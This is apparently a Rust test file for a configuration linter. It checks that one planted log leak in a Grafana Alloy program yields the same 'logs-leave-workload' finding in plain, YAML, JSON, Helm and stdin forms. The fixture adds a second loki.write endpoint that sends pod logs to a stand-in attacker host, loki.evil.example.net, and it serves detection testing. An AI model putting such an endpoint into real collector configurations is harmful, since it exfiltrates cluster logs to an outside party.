//! One planted leak in every form of input: always the same finding, each time at the place where it was typed.
#![expect(clippy::unwrap_used, reason = "a test fails by a panic")]

mod forms;
mod kinds;
#[path = "../program/mod.rs"]
mod program;

use forms::config_maps;
use forms::json_forms;
use forms::programs_by_themselves;
use forms::releases;
use forms::secrets;
use forms::values;
use program::Ran;
use program::check;
use program::folder;
use program::indented;
use program::only_place;
use program::run;
use serde_json::Value;
use serde_json::json;

/// Where the leak leads; what every form is searched for, since it occurs once.
const EVIL: &str = "https://loki.evil.example.net/loki/api/v1/push";

/// A collector's program that sends logs out. The leak is on line 17, column 10 (one tab is one character).
const PROGRAM: &str = r#"// What: "quotes", 'apostrophes', back\slashes, ünïcode, # and : everywhere.
discovery.kubernetes "pods" {
	role = "pod"
}

loki.source.kubernetes "pods" {
	targets    = discovery.kubernetes.pods.targets
	forward_to = [loki.write.local.receiver]
}

loki.write "local" {
	endpoint {
		url = "http://loki-gateway.loki.svc.cluster.local/loki/api/v1/push"
	}

	endpoint {
		url = "https://loki.evil.example.net/loki/api/v1/push"
	}
	external_labels = {"why" = "because: it's so long that whoever folds lines has to fold this one, more than once"}
}
"#;

/// The leak in [`PROGRAM`].
const INNER: (u64, u64) = (17, 10);

const META: &str = "metadata:\n  name: alloy-config\n  namespace: alloy\n";

/// A ConfigMap whose `config.alloy` is written like this.
fn config_map(value: &str) -> String {
    format!("apiVersion: v1\nkind: ConfigMap\n{META}data:\n  config.alloy: {value}\n")
}

/// [`PROGRAM`] as a literal block, indented below a key that is indented by `by`.
fn literal(by: usize) -> String {
    format!("|\n{}", indented(PROGRAM, by + 2).trim_end_matches('\n'))
}

fn config_map_json() -> Value {
    json!({
        "apiVersion": "v1",
        "data": {"config.alloy": PROGRAM},
        "kind": "ConfigMap",
        "metadata": {"name": "alloy-config", "namespace": "alloy"},
    })
}

/// The leak's finding, without its places.
fn meaning(finding: &Value) -> Value {
    json!([finding["rule"], finding["message"], finding["severity"], finding["fingerprint"]])
}

/// What the leak is in the plainest form: a file by itself.
fn plain() -> Value {
    let found = check(&[("config.alloy", PROGRAM.as_bytes())]);
    meaning(&the_leak(&found))
}

/// The one leak of a run that has no other.
fn the_leak(found: &Ran) -> Value {
    assert_eq!((found.code, found.errors()), (1, Vec::new()), "{}{}", found.stdout, found.stderr);
    let leaks = found.findings("logs-leave-workload");
    assert_eq!(leaks.len(), 1, "{}", found.stdout);
    leaks.first().unwrap().clone()
}

#[test]
fn the_same_leak_is_the_same_finding_in_every_form() {
    let plain = plain();
    let forms = [programs_by_themselves(), config_maps(), json_forms(), secrets(), releases()];
    let faults: Vec<String> = forms.iter().flatten().filter_map(|form| form.fault(&plain)).collect();
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

#[test]
fn standard_input_is_recognised_by_its_content_whatever_its_name() {
    let plain = plain();
    let folder = folder(&[]);
    let document = config_map(&literal(2));
    let json = serde_json::to_string_pretty(&config_map_json()).unwrap();
    let brackets = format!(
        "{{apiVersion: v1, kind: ConfigMap, metadata: {{name: alloy-config}}, data: {{config.alloy: {}}}}}\n",
        serde_json::to_string(PROGRAM).unwrap()
    );
    for (name, text) in
        [("Alloy", PROGRAM), ("YAML", &document), ("JSON", &json), ("YAML in brackets", &brackets)]
    {
        for filename in [None, Some("config.alloy.txt"), Some("dir/a.conf"), Some("a.yaml")] {
            let mut arguments = vec!["-o", "json"];
            arguments.extend(filename.iter().flat_map(|filename| ["--stdin-filename", filename]));
            arguments.push("-");
            let leak = the_leak(&run(folder.path(), &arguments, Some(text.as_bytes())));
            assert_eq!(meaning(&leak), plain, "{name} {filename:?}");
            let (line, column) = only_place(text, EVIL);
            let at = &leak["location"];
            let expected = json!([filename.unwrap_or("<stdin>"), line, column]);
            assert_eq!(json!([at["path"], at["line"], at["column"]]), expected, "{name} {filename:?}");
        }
    }
}

#[test]
fn file_that_is_named_is_recognised_by_its_content_whatever_its_name() {
    let folder =
        folder(&[("config.txt", PROGRAM.as_bytes()), ("noextension", config_map(&literal(2)).as_bytes())]);
    for (name, place) in [("config.txt", INNER), ("noextension", only_place(&config_map(&literal(2)), EVIL))]
    {
        let leak = the_leak(&run(folder.path(), &["-o", "json", name], None));
        let at = &leak["location"];
        assert_eq!(json!([at["path"], at["line"], at["column"]]), json!([name, place.0, place.1]));
    }
}

#[test]
fn several_forms_together_are_each_read() {
    // The same ConfigMap as YAML, as JSON and in a List is one object and one leak; a release has a
    // program of its own. The file beside the values holds the same program as they do: they are one.
    let list = json!({"apiVersion": "v1", "kind": "List", "items": [config_map_json()]});
    let release = releases().into_iter().find(|form| form.name == "HelmChart").unwrap().text;
    let folder = folder(&[
        ("one/a.yaml", config_map(&literal(2)).as_bytes()),
        ("one/b.json", serde_json::to_string(&config_map_json()).unwrap().as_bytes()),
        ("one/c.json", serde_json::to_string(&list).unwrap().as_bytes()),
        ("two/values.yaml", values(0).as_bytes()),
        ("three/chart.yaml", release.as_bytes()),
        ("four/config.alloy", PROGRAM.as_bytes()),
    ]);
    let found = run(folder.path(), &["-o", "json", "one", "two", "three", "four"], None);
    let mut leaks: Vec<Value> = found.findings("logs-leave-workload");
    leaks.sort_by_key(|leak| leak["location"]["path"].as_str().unwrap().to_owned());
    let paths: Vec<&str> = leaks.iter().map(|leak| leak["location"]["path"].as_str().unwrap()).collect();
    assert_eq!(found.code, 1);
    assert_eq!(paths, ["one/a.yaml", "three/chart.yaml", "two/values.yaml"]);
    let plain = plain();
    assert!(leaks.iter().all(|leak| meaning(leak) == plain), "{leaks:?}");
}
